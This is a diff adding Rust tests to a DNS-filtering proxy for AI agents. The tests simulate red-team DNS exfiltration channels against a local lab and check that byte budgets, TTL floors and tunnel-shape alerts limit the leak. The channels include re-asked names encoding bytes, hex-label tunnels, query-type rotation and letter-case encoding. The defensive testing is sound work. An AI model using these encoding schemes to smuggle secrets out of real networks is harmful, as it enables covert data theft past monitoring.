@@ -487,3 +487,283 @@ fn check_validates_qtypes_and_warns_about_doh_endpoints() {
     assert!(out.contains("doh.yaml:5"), "{out}");
     assert!(!out.contains("doh.yaml:3"), "{out}");
 }
+
+/// A plain UDP client for floods: one socket, one question at a time.
+struct Asker {
+    sock: std::net::UdpSocket,
+    server: std::net::SocketAddr,
+    id: u16,
+}
+
+impl Asker {
+    fn new(server: std::net::SocketAddr) -> Asker {
+        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
+        Asker {
+            sock,
+            server,
+            id: 0,
+        }
+    }
+
+    /// The reply's rcode (0 NOERROR, 5 REFUSED, ...).
+    fn ask(&mut self, name: &str, qtype: RecordType) -> u8 {
+        self.id = self.id.wrapping_add(1);
+        let mut q = raw_query(self.id, name);
+        let at = q.len() - 4;
+        q[at..at + 2].copy_from_slice(&u16::from(qtype).to_be_bytes());
+        self.sock.send_to(&q, self.server).unwrap();
+        let mut buf = [0u8; 1500];
+        loop {
+            let (n, _) = self.sock.recv_from(&mut buf).expect("a reply");
+            if n >= 12 && buf[..2] == self.id.to_be_bytes() {
+                return buf[3] & 0x0f;
+            }
+        }
+    }
+}
+
+/// Deterministic random bytes.
+fn secret(len: usize, seed: u64) -> Vec<u8> {
+    let mut rng = seed;
+    (0..len)
+        .map(|_| {
+            rng = rng
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            (rng >> 56) as u8
+        })
+        .collect()
+}
+
+/// The red team's channel: pay once for 256 names `00`..`ff`, then send
+/// one byte a question by which of them is asked, the attacker's name
+/// server answering with TTL 0. The attacker's view is the upstream's log.
+#[test]
+fn re_asked_names_carry_no_more_than_the_budget_to_a_ttl0_name_server() {
+    const SECRET: usize = 20 * 1024;
+    let lab = Lab::new("127.0.0.37", &["cdn.test"]);
+    let secret = secret(SECRET, 11);
+    let names: Vec<String> = (0..=255u8).map(|i| format!("{i:02x}.k.cdn.test")).collect();
+    let policy = |exfil: &str| {
+        format!("agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}")
+    };
+    // Returns the bytes the attacker decoded and the questions refused.
+    let run = |exfil: &str| {
+        let (dns, _) = lab.serve("reask", &policy(exfil));
+        let mut asker = Asker::new(dns.udp);
+        let start = lab.up.sent.lock().unwrap().len();
+        for n in &names {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let paid = lab.up.sent.lock().unwrap().len();
+        let (mut refused, mut in_a_row) = (0, 0);
+        for &byte in &secret {
+            match asker.ask(&names[usize::from(byte)], RecordType::A) {
+                0 => in_a_row = 0,
+                5 => {
+                    refused += 1;
+                    in_a_row += 1;
+                }
+                other => panic!("rcode {other}"),
+            }
+            // Cut off for good: stop rather than wait out the drain.
+            if in_a_row > 500 {
+                break;
+            }
+        }
+        let log = lab.up.sent.lock().unwrap();
+        assert_eq!(paid - start, 256, "the purchase left");
+        let decoded: Vec<u8> = log[paid..]
+            .iter()
+            .filter_map(|(n, _)| u8::from_str_radix(n.strip_suffix(".k.cdn.test")?, 16).ok())
+            .collect();
+        (decoded, refused)
+    };
+
+    // Positive control, the budget off: the whole secret arrives.
+    let (out, refused) = run("  budget: off\n");
+    eprintln!("budget off: {} of {SECRET} bytes out, {refused} refused", out.len());
+    assert_eq!(out, secret, "the channel works");
+    assert!(out.len() > DEFAULT_HARD_BYTES as usize);
+
+    // The charge alone (no floor): each re-ask costs the choice it carries.
+    let (out, refused) = run("  min_ttl_secs: 0\n");
+    eprintln!("charge, no floor: {} bytes out, {refused} refused", out.len());
+    assert!(out.len() < DEFAULT_HARD_BYTES as usize, "{}", out.len());
+    assert!(refused > 0);
+    assert_eq!(out[..], secret[..out.len()], "what left is a prefix");
+
+    // Defaults: the floor holds each answer 30 s, so a re-ask is a cache
+    // hit that never leaves, and every question is still answered.
+    let (out, refused) = run("");
+    eprintln!("defaults: {} bytes out, {refused} refused", out.len());
+    assert_eq!((out.len(), refused), (0, 0));
+}
+
+const DEFAULT_HARD_BYTES: u32 = allowdns::serve::exfil::DEFAULT_HARD_BYTES;
+
+/// Every strategy at once, each question carrying as much as it can:
+/// a new name with 64 bits of hex; one of 64 seen names in one of four
+/// types (8 bits); an 8-letter label whose case carries 8 bits, in one of
+/// four types (10 bits). TTL 0 answers. The bits the attacker reads are
+/// counted from the upstream's log, names as sent.
+#[test]
+fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() {
+    const TYPES: [RecordType; 4] = [
+        RecordType::A,
+        RecordType::AAAA,
+        RecordType::HTTPS,
+        RecordType::SVCB,
+    ];
+    let lab = Lab::new("127.0.0.38", &["cdn.test"]);
+    let secret = secret(24 * 1024, 13);
+    let pool: Vec<String> = (0..64).map(|i| format!("w{i:02}.m.cdn.test")).collect();
+    // The bits of the secret, most significant first.
+    let bits: Vec<u8> = secret
+        .iter()
+        .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1))
+        .collect();
+    let take = |at: &mut usize, n: usize| -> u64 {
+        let mut v = 0;
+        for _ in 0..n {
+            v = (v << 1) | u64::from(bits.get(*at).copied().unwrap_or(0));
+            *at += 1;
+        }
+        v
+    };
+    // What one question in the log carries, as the attacker decodes it.
+    let read = |name: &str, qtype: RecordType| -> Option<(u64, usize)> {
+        let t = TYPES.iter().position(|&x| x == qtype)? as u64;
+        if let Some(hex) = name.strip_suffix(".n.m.cdn.test") {
+            return Some((u64::from_str_radix(hex, 16).ok()?, 64));
+        }
+        if let Some(word) = name.strip_suffix(".c.m.cdn.test") {
+            let case = word
+                .bytes()
+                .fold(0, |v, b| (v << 1) | u64::from(b.is_ascii_uppercase()));
+            return Some(((case << 2) | t, 10));
+        }
+        let w: u64 = name.strip_prefix('w')?.strip_suffix(".m.cdn.test")?.parse().ok()?;
+        Some(((w << 2) | t, 8))
+    };
+    let run = |exfil: &str| {
+        let (dns, _) = lab.serve(
+            "mix",
+            &format!(
+                "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
+            ),
+        );
+        let mut asker = Asker::new(dns.udp);
+        for n in &pool {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let paid = lab.up.sent.lock().unwrap().len();
+        let (mut at, mut round, mut in_a_row, mut refused) = (0, 0usize, 0, 0);
+        while at < bits.len() && in_a_row < 500 {
+            let (name, qtype) = match round % 3 {
+                0 => (format!("{:016x}.n.m.cdn.test", take(&mut at, 64)), RecordType::A),
+                1 => {
+                    let v = take(&mut at, 8);
+                    (pool[(v >> 2) as usize].clone(), TYPES[(v & 3) as usize])
+                }
+                _ => {
+                    let v = take(&mut at, 10);
+                    let word: String = "abcdefgh"
+                        .chars()
+                        .enumerate()
+                        .map(|(i, c)| {
+                            if (v >> (2 + 7 - i)) & 1 == 1 {
+                                c.to_ascii_uppercase()
+                            } else {
+                                c
+                            }
+                        })
+                        .collect();
+                    (format!("{word}.c.m.cdn.test"), TYPES[(v & 3) as usize])
+                }
+            };
+            round += 1;
+            // hickory answers a type its wildcard lacks with NXDOMAIN.
+            match asker.ask(&name, qtype) {
+                0 | 3 => in_a_row = 0,
+                5 => {
+                    refused += 1;
+                    in_a_row += 1;
+                }
+                other => panic!("{name}: rcode {other}"),
+            }
+        }
+        let log = lab.up.sent.lock().unwrap();
+        let out_bits: usize = log[paid..]
+            .iter()
+            .filter_map(|(n, t)| read(n, *t))
+            .map(|(_, b)| b)
+            .sum();
+        (out_bits / 8, refused, at / 8)
+    };
+
+    // Positive control, the budget off: the whole secret arrives, and the
+    // attacker's decoding is the secret.
+    let (out, refused, sent) = run("  budget: off\n");
+    eprintln!("mix, budget off: {out} bytes out of {sent} sent, {refused} refused");
+    assert!(out >= secret.len() && refused == 0, "{out} {refused}");
+    {
+        let log = lab.up.sent.lock().unwrap();
+        let mut decoded = Vec::new();
+        for (v, n) in log.iter().skip(64).filter_map(|(n, t)| read(n, *t)) {
+            for i in (0..n).rev() {
+                decoded.push(((v >> i) & 1) as u8);
+            }
+        }
+        assert_eq!(decoded[..bits.len()], bits[..], "the decoding is the secret");
+    }
+
+    for exfil in ["  min_ttl_secs: 0\n", ""] {
+        let (out, refused, sent) = run(exfil);
+        eprintln!("mix, {exfil:?}: {out} bytes out of {sent} sent, {refused} refused");
+        assert!(out < DEFAULT_HARD_BYTES as usize, "{exfil:?}: {out} bytes out");
+    }
+}
+
+/// 300 rapid unique 40-hex labels under one wildcard (about 6 KB, under
+/// the soft limit) are flagged within the first few names.
+#[test]
+fn tunnel_shaped_names_raise_an_alert_early() {
+    let lab = Lab::new("127.0.0.39", &["cdn.test"]);
+    let hex = secret(300 * 20, 17);
+    let names: Vec<String> = hex
+        .chunks(20)
+        .map(|c| {
+            let label: String = c.iter().map(|b| format!("{b:02x}")).collect();
+            format!("{label}.t.cdn.test")
+        })
+        .collect();
+    let policy = |exfil: &str| {
+        format!("agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n{exfil}")
+    };
+    let run = |tag: &str, exfil: &str| {
+        let (dns, audit) = lab.serve(tag, &policy(exfil));
+        let mut asker = Asker::new(dns.udp);
+        for n in &names {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let lines = audit_lines(&audit, names.len());
+        let first = lines.iter().position(|l| !l["exfil"].is_null());
+        (first, dns)
+    };
+    // Positive control: today's budget passes the whole tunnel in silence
+    // (6 KB < the 8 KiB soft limit); here with the budget off.
+    let (first, dns) = run("off", "exfil:\n  budget: off\n");
+    assert_eq!(first, None);
+    assert!(!dns.stderr().contains("[!]"), "{}", dns.stderr());
+    assert_eq!(lab.asked(".t.cdn.test"), names.len());
+    drop(dns);
+
+    let (first, dns) = run("on", "");
+    dns.wait_for("shaped like a DNS tunnel", 1);
+    eprintln!("tunnel shape: first marked name is #{first:?} of 300");
+    assert_eq!(first, Some(7), "the 8th tunnel-shaped name is marked");
+    let stderr = dns.stderr();
+    assert_eq!(stderr.matches("shaped like a DNS tunnel").count(), 1, "{stderr}");
+}
